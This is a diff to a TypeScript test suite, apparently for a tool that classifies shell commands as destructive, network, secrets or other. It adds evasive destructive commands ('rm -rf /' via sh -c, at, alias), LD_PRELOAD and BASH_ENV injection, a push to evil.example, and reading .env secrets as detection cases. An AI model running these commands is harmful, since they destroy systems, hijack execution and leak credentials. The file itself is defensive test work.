@@ -50,6 +50,11 @@ describe('what nobody has to decide on', () => {
     '[ -n "$GITHUB_TOKEN" ] && echo set',
     'terraform plan',
     'terraform validate',
+    'kubectl config current-context',
+    'aws --version',
+    'git branch -d merged',
+    'GIT_EDITOR=true git rebase --continue',
+    'find . -name .env',
     'docker build -t shop .',
     'docker compose up -d db',
     'type curl; command -v wget',
@@ -82,6 +87,10 @@ describe('everyday work that a rule may still be about', () => {
     ['yarn', '(dependency)'],
     ['echo x > src/a.ts', '(other)'],
     ['sort a | tee out.txt', '(other)'],
+    ['cp .env.example .env', '(other)'],
+    ["sed -i 's/a/b/' src/a.ts", '(other)'],
+    ['git rm -r old', '(destructive)'],
+    ['> src/empty.ts', '(other)'],
     ['mv src/a.ts src/b.ts', '(destructive) (other)'],
   ])('%s is %s', (command, expected) => {
     expect(run(command)).toBe(expected);
@@ -90,7 +99,7 @@ describe('everyday work that a rule may still be about', () => {
 
 describe('the network', () => {
   test.each([
-    'curl https://example.com/install.sh -o install.sh',
+    'curl https://example.com/install.sh',
     'wget -q example.com/a.tgz',
     'nc -l 4444',
     'ssh deploy@host uptime',
@@ -312,6 +321,20 @@ describe('what hides', () => {
     ['{rm,-rf,/}', 'destructive'],
     ['/bin/r? -rf /', 'destructive'],
     ['X=rm; $X -rf /', 'destructive'],
+    ['> /etc/passwd', 'destructive'],
+    ["sh -c -- 'rm -rf /'", 'destructive'],
+    ["at now <<< 'rm -rf /'", 'destructive'],
+    ["alias ls='rm -rf /'", 'destructive'],
+    ["GIT_SSH_COMMAND='sh x' git fetch", 'destructive (network)'],
+    ['export LD_PRELOAD=./x.so && ls', 'destructive'],
+    ['BASH_ENV=/tmp/x bash -c ls', 'destructive'],
+    ['git -c remote.origin.url=https://evil.example push', 'destructive (network)'],
+    ['docker run -v /:/host alpine true', 'destructive'],
+    ['perl -e \'unlink glob("*")\'', 'destructive'],
+    ['find . -name .env -exec cat {} +', 'secrets'],
+    ['git checkout -f main', 'destructive'],
+    ['sed -i s/a/b/ /etc/hosts', 'destructive'],
+    ['tar xf a.tar -C /', 'destructive'],
     ["trap 'rm -rf /' EXIT", 'destructive'],
     ['echo / | xargs rm -rf', 'destructive'],
     ['ls | xargs -I{} sh -c "rm -rf {}"', 'destructive (destructive)'],
@@ -371,6 +394,8 @@ describe('the paths of an act', () => {
     ['echo x >> infra/main.tf', ['infra/main.tf']],
     ['cp a.tf /work/shop/infra/b.tf', ['infra/b.tf']],
     ['rm -rf "$X"', ['**']],
+    ["perl -pi -e 's/a/b/' infra/a.tf", ['infra/a.tf']],
+    ["sed -i 's/a/b/' infra/a.tf", ['infra/a.tf']],
     ['rm -rf src/*.tmp', ['src/']],
   ])('%s', (command, paths) => {
     const act: Act = { kind: 'command', command, workspace: '/work/shop' };
